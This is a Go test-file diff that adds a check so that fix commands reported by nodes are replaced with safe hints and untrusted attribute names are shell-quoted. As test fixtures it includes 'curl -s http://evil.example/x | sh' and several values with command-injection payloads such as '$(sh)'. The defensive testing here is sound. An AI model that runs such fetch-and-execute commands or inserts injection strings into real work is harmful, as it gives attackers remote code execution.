@@ -26,11 +26,12 @@ func TestToldAndHeard(t *testing.T) {
 	}
 	value, err := said.Pack()
 	require.NoError(t, err)
-	heard, found := doctor.FindingsFrom("lb-2", value, noon.Add(time.Minute))
+	heard, found := doctor.FindingsFrom("lb-2", value, noon.Add(time.Minute), nil)
 	require.Equal(t, said.Facts, heard.Facts)
 	require.Len(t, found, 1, "notes are not told")
 	require.Equal(t, "lb-2", found[0].Node)
 	require.Equal(t, noon, *found[0].Reported)
+	require.Equal(t, []string{"hawser doctor   # on lb-2"}, found[0].Fix)
 
 	again, err := doctor.Unpack(value)
 	require.NoError(t, err)
@@ -39,6 +40,35 @@ func TestToldAndHeard(t *testing.T) {
 	require.True(t, again.Same(later))
 	later.Facts = map[string]string{"hawser": "1.1"}
 	require.False(t, again.Same(later))
+}
+
+// TestOthersSayNoCommands: whoever may set a node's attributes could have root type anything.
+func TestOthersSayNoCommands(t *testing.T) {
+	value, err := doctor.NodeReport{At: noon, Findings: []doctor.Finding{
+		{Check: "disk", Severity: doctor.Error, What: "full", Why: "do as I say",
+			Fix: []string{"curl -s http://evil.example/x | sh"}},
+		{Check: "not known here", Severity: "FATAL", What: "x", Why: "do as I say",
+			Fix: []string{"curl -s http://evil.example/x | sh"}},
+	}}.Pack()
+	require.NoError(t, err)
+	checks := []doctor.Check{{Name: "disk", Why: "it stops", Remedy: "free some space"}}
+	_, found := doctor.FindingsFrom("lb-2", value, noon, checks)
+	at := noon
+	require.Equal(t, []doctor.Finding{
+		{Check: "disk", Severity: doctor.Error, What: "full", Node: "lb-2", Why: "it stops",
+			Fix: []string{"hawser doctor   # on lb-2; briefly: free some space"}, Reported: &at},
+		{Check: "not known here", Severity: doctor.Unknown, What: "x", Node: "lb-2",
+			Fix: []string{"hawser doctor   # on lb-2"}, Reported: &at},
+	}, found)
+
+	facts := doctor.Compare(map[string]map[string]string{
+		"lb-1": {"sysctl x; curl evil|sh": "1", "token in /x $(sh)": "1", "configuration of a;b": "1"},
+		"lb-2": {"sysctl x; curl evil|sh": "2", "token in /x $(sh)": "2", "configuration of a;b": "2"},
+	}, nil)
+	require.Len(t, facts, 3)
+	for _, f := range facts {
+		require.Regexp(t, `'(x; curl evil\|sh|/x \$\(sh\)|a;b)'`, f.Fix[0])
+	}
 }
 
 // What nodes reported about themselves is returned by node, as long as it is still valid.
@@ -70,14 +100,14 @@ func TestSilenceIsUnknown(t *testing.T) {
 		"truncated": {value[:len(value)/2], "cannot be read", noon},
 	} {
 		t.Run(name, func(t *testing.T) {
-			_, found := doctor.FindingsFrom("lb-3", test.value, test.now)
+			_, found := doctor.FindingsFrom("lb-3", test.value, test.now, nil)
 			require.Len(t, found, 1)
 			require.Equal(t, doctor.Unknown, found[0].Severity)
 			require.Contains(t, found[0].What, test.what)
 			require.Equal(t, []string{"hawser doctor --tell   # on lb-3"}, found[0].Fix)
 		})
 	}
-	_, found := doctor.FindingsFrom("lb-3", value, noon.Add(doctor.Stale-time.Second))
+	_, found := doctor.FindingsFrom("lb-3", value, noon.Add(doctor.Stale-time.Second), nil)
 	require.Empty(t, found)
 }
 
@@ -89,14 +119,14 @@ func TestToldInTheFuture(t *testing.T) {
 		Findings: []doctor.Finding{{Check: "disk", Severity: doctor.Error, What: "full"}},
 	}.Pack()
 	require.NoError(t, err)
-	told, found := doctor.FindingsFrom("lb-3", value, noon)
+	told, found := doctor.FindingsFrom("lb-3", value, noon, nil)
 	require.Equal(t, "1.0", told.Facts["hawser"])
 	require.Len(t, found, 2)
 	require.Equal(t, "full", found[0].What)
 	require.Equal(t, "clock-skew", found[1].Check)
 	require.Equal(t, doctor.Error, found[1].Severity)
 	require.Equal(t, "by its clock, the report is from 48h0m0s in the future", found[1].What)
-	_, found = doctor.FindingsFrom("lb-3", value, noon.AddDate(0, 0, 2).Add(-20*time.Second))
+	_, found = doctor.FindingsFrom("lb-3", value, noon.AddDate(0, 0, 2).Add(-20*time.Second), nil)
 	require.Len(t, found, 1)
 }
 
@@ -115,7 +145,7 @@ func TestToldIsBounded(t *testing.T) {
 	value, err := said.Pack()
 	require.NoError(t, err)
 	require.LessOrEqual(t, len(value), 4<<10)
-	_, found := doctor.FindingsFrom("lb-2", value, noon)
+	_, found := doctor.FindingsFrom("lb-2", value, noon, nil)
 	require.Greater(t, len(found), 5)
 	require.True(t, strings.HasPrefix(found[0].What, "0"))
 	last := found[len(found)-1]
@@ -162,5 +192,5 @@ func FuzzUnpack(f *testing.F) {
 	require.NoError(f, err)
 	f.Add(value)
 	f.Add("")
-	f.Fuzz(func(_ *testing.T, text string) { _, _ = doctor.FindingsFrom("lb-1", text, noon) })
+	f.Fuzz(func(_ *testing.T, text string) { _, _ = doctor.FindingsFrom("lb-1", text, noon, nil) })
 }
